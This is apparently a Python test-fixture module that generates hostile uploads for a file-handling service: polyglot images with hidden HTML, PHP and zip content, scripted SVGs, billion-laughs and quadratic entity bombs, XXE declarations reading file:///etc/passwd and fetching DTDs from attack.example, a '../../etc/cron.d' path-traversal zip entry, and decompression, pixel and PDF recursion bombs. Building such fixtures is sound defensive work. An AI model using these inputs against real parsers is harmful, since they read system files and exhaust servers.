"""Files that are not what they say, or more than they look: made here, none of them kept."""

import io
import struct
import zipfile
import zlib

import docx
import openpyxl
from PIL import Image, PngImagePlugin

HTML = b"<html><script>attack()</script></html>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
SHEET, STRINGS, STYLES = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"
DOCUMENT = "word/document.xml"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LAUGHS = '<!DOCTYPE a [<!ENTITY a0 "ha">{}]>'.format(
    "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
)
QUADRATIC = f'<!DOCTYPE a [<!ENTITY a9 "{"x" * 100_000}">]>'
OUTSIDE = '<!DOCTYPE a [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>'
FAR = '<!DOCTYPE a SYSTEM "http://attack.example/a.dtd" []>'
PARAMETER = '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attack.example/p">%p;]>'
DECLARATIONS = {
    "billion-laughs": LAUGHS,
    "quadratic-blow-up": QUADRATIC,
    "external-entity": OUTSIDE,
    "external-dtd": FAR,
    "parameter-entity": PARAMETER,
    "padded-dtd": f"<!--{' ' * 100_000}-->{LAUGHS}",
}


def draw(file_format="JPEG", size=(60, 40), **options) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(file, file_format, **options)
    return file.getvalue()


def chunk_of_png(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def claim(width: int, height: int) -> bytes:
    """Return a PNG file of some bytes that says to have so many pixels."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = [
        chunk_of_png(b"IHDR", header),
        chunk_of_png(b"IDAT", zlib.compress(b"")),
        chunk_of_png(b"IEND", b""),
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def add_to_png(kind: bytes, data: bytes) -> bytes:
    png = draw("PNG")
    return png[:33] + chunk_of_png(kind, data) + png[33:]


def repeat_scan(times: int) -> bytes:
    """Return a JPEG that paints its last scan over and over."""
    picture = draw("JPEG", progressive=True)
    start = picture.rindex(b"\xff\xda")
    return picture[:start] + picture[start:-2] * times + picture[-2:]


def commented_jpeg(text: bytes) -> bytes:
    picture = draw()
    return picture[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + picture[2:]


def png_with_text() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", HTML.decode())
    return draw("PNG", pnginfo=notes)


def zip_of(**parts) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return file.getvalue()


# Pictures that are taken, and from which nothing but the picture is kept.
DISGUISED = {
    "jpeg-with-html-behind": lambda: draw() + HTML,
    "jpeg-with-html-comment": lambda: commented_jpeg(HTML),
    "jpeg-with-zip-behind": lambda: draw() + zip_of(attack=b"attack()"),
    "jpeg-with-php-in-exif": lambda: draw(exif=b"Exif\0\0<?php attack() ?>attack()"),
    "png-with-html-text": png_with_text,
    "png-with-html-behind": lambda: draw("PNG") + HTML,
    "png-with-private-chunk": lambda: add_to_png(b"atCk", HTML),
    "webp-with-html-behind": lambda: draw("WEBP") + HTML,
    "webp-with-xmp": lambda: draw("WEBP", xmp=HTML),
}
# Pictures that are refused with a sentence.
REFUSED_PICTURES = {
    "svg": lambda: SVG.format("<script>attack()</script>").encode(),
    "svg-with-bom": lambda: b"\xef\xbb\xbf" + SVG.format("<script>attack()</script>").encode(),
    "svg-utf-16": lambda: SVG.format('<a onload="attack()"/>').encode("utf-16"),
    "svg-with-entities": lambda: (LAUGHS + SVG.format("&a9;")).encode(),
    "svg-after-comment": lambda: b"<!-- JFIF -->" + SVG.format("").encode(),
    "svgz": lambda: zlib.compress(SVG.format("").encode(), wbits=31),
    "html": lambda: HTML,
    "html-named-as-jpeg": lambda: b"\xff\xd8\xff" + HTML,
    "gif-that-is-script": lambda: b"GIF89a/*" + bytes(20) + b"*/=1;attack()",
    "gif": lambda: draw("GIF"),
    "bmp": lambda: draw("BMP"),
    "tiff": lambda: draw("TIFF"),
    "ico": lambda: draw("ICO"),
    "postscript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(attack) run",
    "pdf": lambda: b"%PDF-1.7 attack",
    "zip": lambda: zip_of(attack=b"attack()"),
    "empty": lambda: b"",
    "cut-jpeg": lambda: draw(size=(400, 300))[:-900],
    "cut-png": lambda: draw("PNG")[:60],
    "png-of-2-thousand-million-pixels": lambda: claim(2**31 - 1, 1),
    "png-of-900-million-pixels": lambda: claim(30_000, 30_000),
    "png-of-51-million-pixels": lambda: claim(51_000, 1_000),
    "png-without-height": lambda: claim(100, 0),
    "png-with-text-bomb": lambda: add_to_png(
        b"zTXt", b"a\0\0" + zlib.compress(bytes(80_000_000), 9)
    ),
    "jpeg-of-1000-scans": lambda: repeat_scan(1000),
    "over-12-megabytes": lambda: draw() + bytes(12 * 2**20),
}


def replace(data: bytes, parts: dict[str, bytes | str]) -> bytes:
    """Return an office file with some parts replaced or added."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in {**dict.fromkeys(old.namelist()), **parts}:
            new.writestr(name, parts[name] if name in parts else old.read(name))
    return file.getvalue()


def make_workbook(**parts) -> bytes:
    workbook, file = openpyxl.Workbook(), io.BytesIO()
    workbook.active.append(["見出し"])
    workbook.active.append(["値"])
    workbook.save(file)
    return replace(file.getvalue(), {name.replace("__", "/"): data for name, data in parts.items()})


def sheet(rows: str, declaration="") -> str:
    head = '<row r="1"><c r="A1" t="inlineStr"><is><t>見出し</t></is></c></row>'
    start = '<?xml version="1.0" encoding="UTF-8"?>'
    return f"{start}{declaration}<worksheet {MAIN}><sheetData>{head}{rows}</sheetData></worksheet>"


def cell(text: str) -> str:
    return f'<row r="2"><c r="A2" t="inlineStr"><is><t>{text}</t></is></c></row>'


def with_sheet(text: str, **more) -> bytes:
    return replace(make_workbook(), {SHEET: text, **more})


def lie_about_size(data: bytes) -> bytes:
    """Return an archive whose directory says that each part unpacks to 10 bytes."""
    places, data = [], bytearray(data)
    start = data.find(b"PK\x01\x02")
    while start >= 0:
        places.append(start)
        start = data.find(b"PK\x01\x02", start + 4)
    for place in places:
        data[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(data)


WORKBOOKS = {
    **{
        f"sheet-{name}": lambda text=text: with_sheet(sheet(cell("&a9;"), text))
        for name, text in DECLARATIONS.items()
    },
    "sheet-utf-16-with-dtd": lambda: with_sheet(
        sheet(cell("x"), LAUGHS).replace("UTF-8", "UTF-16").encode("utf-16")
    ),
    "strings-billion-laughs": lambda: replace(
        make_workbook(), {STRINGS: f"{LAUGHS}<sst {MAIN}><si><t>&a9;</t></si></sst>"}
    ),
    "styles-with-dtd": lambda: replace(make_workbook(), {STYLES: f"{LAUGHS}<styleSheet {MAIN}/>"}),
    "relations-with-dtd": lambda: replace(
        make_workbook(),
        {"xl/_rels/workbook.xml.rels": f"{OUTSIDE}<Relationships>&a9;</Relationships>"},
    ),
    "300-megabytes-of-zeros": lambda: with_sheet(
        sheet(""), **{"xl/media/a.bin": bytes(300 * 2**20)}
    ),
    "3000-parts": lambda: replace(make_workbook(), {f"xl/media/{n}": b"" for n in range(3000)}),
    "a-million-cells-in-a-row": lambda: with_sheet(sheet(f'<row r="2">{"<c/>" * 1_000_000}</row>')),
    "30-million-marks": lambda: with_sheet(sheet("<c>" * 30_000_000)),
    "300-thousand-styles": lambda: replace(
        make_workbook(),
        {STYLES: f"<styleSheet {MAIN}><cellXfs>{'<xf/>' * 300_000}</cellXfs></styleSheet>"},
    ),
    "row-of-a-million-millions": lambda: with_sheet(
        sheet('<row r="1000000000000"><c><v>1</v></c></row>')
    ),
    "row-before-the-first": lambda: with_sheet(
        sheet('<row r="-1"><c><v>1</v></c></row>').replace(' r="1"', "")
    ),
    "row-without-number": lambda: with_sheet(sheet('<row r="attack"><c><v>1</v></c></row>')),
    "column-18278": lambda: with_sheet(sheet('<row r="2"><c r="ZZZ2"><v>1</v></c></row>')),
    "column-beyond-all": lambda: with_sheet(
        sheet('<row r="2"><c r="AAAAAAAA2"><v>1</v></c></row>')
    ),
    "broken-xml": lambda: with_sheet(sheet("<row>")),
    "no-xml": lambda: with_sheet("attack"),
    "other-string-number": lambda: with_sheet(
        sheet('<row r="2"><c r="A2" t="s"><v>999999</v></c></row>')
    ),
    "lying-sizes": lambda: lie_about_size(with_sheet(sheet(cell("x" * 1000)))),
    "cut": lambda: make_workbook()[:-100],
    "zip-in-zip": lambda: zip_of(**{"a.zip": zip_of(**{"b.zip": zip_of(c=bytes(10**6))})}),
    "climbing-names": lambda: zip_of(**{"../../etc/cron.d/attack": b"attack"}),
    "encrypted-or-old": lambda: b"\xd0\xcf\x11\xe0" + bytes(600),
    "zip-and-nothing": lambda: b"PK\x03\x04" + bytes(99),
    "a-word-document": lambda: make_document(),
}


def make_document(body: str | None = None, declaration="") -> bytes:
    document, file = docx.Document(), io.BytesIO()
    document.add_paragraph("1 総務費")
    document.save(file)
    if body is None:
        return file.getvalue()
    text = (
        f'<?xml version="1.0"?>{declaration}<w:document {WORD}><w:body>{body}</w:body></w:document>'
    )
    return replace(file.getvalue(), {DOCUMENT: text})


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def table(rows: str) -> str:
    return f"{paragraph('1 総務費')}<w:tbl><w:tblPr/><w:tblGrid/>{rows}</w:tbl>"


def spanning(cells: int) -> str:
    return f'<w:tc><w:tcPr><w:gridSpan w:val="{cells}"/></w:tcPr><w:p/></w:tc>'


DOCUMENTS = {
    **{
        f"text-{name}": lambda text=text: make_document(paragraph("1 総務費 &a9;"), text)
        for name, text in DECLARATIONS.items()
    },
    "properties-with-dtd": lambda: replace(
        make_document(), {"docProps/core.xml": f"{LAUGHS}<a>&a9;</a>"}
    ),
    "styles-with-dtd": lambda: replace(
        make_document(), {"word/styles.xml": f"{OUTSIDE}<a>&a9;</a>"}
    ),
    "a-cell-over-a-thousand-million-columns": lambda: make_document(
        table(f"<w:tr>{spanning(10**9)}</w:tr>")
    ),
    "many-wide-rows": lambda: make_document(table(f"<w:tr>{spanning(500)}</w:tr>" * 1000)),
    "a-row-that-begins-far-right": lambda: make_document(
        table('<w:tr><w:trPr><w:gridBefore w:val="999999999"/></w:trPr><w:tc><w:p/></w:tc></w:tr>')
    ),
    "merged-with-nothing-above": lambda: make_document(
        table("<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr>" * 2000)
    ),
    "tables-in-tables": lambda: make_document(
        "<w:tbl><w:tr><w:tc>" * 2000 + "</w:tc></w:tr></w:tbl>" * 2000
    ),
    "two-million-paragraphs": lambda: make_document("<w:p/>" * 2_000_000),
    "300-megabytes-of-zeros": lambda: replace(
        make_document(), {"word/media/a.bin": bytes(300 * 2**20)}
    ),
    "3000-parts": lambda: replace(make_document(), {f"word/media/{n}": b"" for n in range(3000)}),
    "no-text": lambda: make_document("<w:p/>"),
    "cut": lambda: make_document()[:-100],
    "a-workbook": lambda: make_workbook(),
}


def make_pdf(operators: bytes, pages: int = 1) -> bytes:
    """Return a PDF whose pages all draw with the same compressed operators."""
    stream = zlib.compress(operators, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * pages, pages),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> /XObject << /X 7 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type0 /BaseFont /HeiseiKakuGo-W5 /Encoding /UniJIS-UCS2-H"
        b" /DescendantFonts [6 0 R] >>",
        b"<< /Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiKakuGo-W5 /CIDSystemInfo"
        b" << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> >>",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 7 0 R >> >>"
        b" /Length 23 >>\nstream\n/X Do /X Do /X Do /X Do\nendstream",
    ]
    data, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, count = len(data), len(objects) + 1
    data += b"xref\n0 %d\n0000000000 65535 f \n" % count
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (count, start)


PDFS = {
    "20-thousand-pages": lambda: make_pdf(b"BT ET", 20_000),
    "a-form-that-draws-itself": lambda: make_pdf(b"/X Do"),
    "200-megabytes-of-blanks": lambda: make_pdf(b" " * 200_000_000),
    "deep-arrays": lambda: make_pdf(b"[" * 1_000_000),
    "cut": lambda: make_pdf(b"BT ET")[:-200],
    "pages-that-hold-themselves": lambda: make_pdf(b"BT ET").replace(b"[3 0 R ]", b"[2 0 R ]"),
}
# Takes some seconds: the time is what ends it.
SLOW_PDF = make_pdf(b"BT /F1 12 Tf " + b"<3042> Tj " * 400_000 + b"ET")
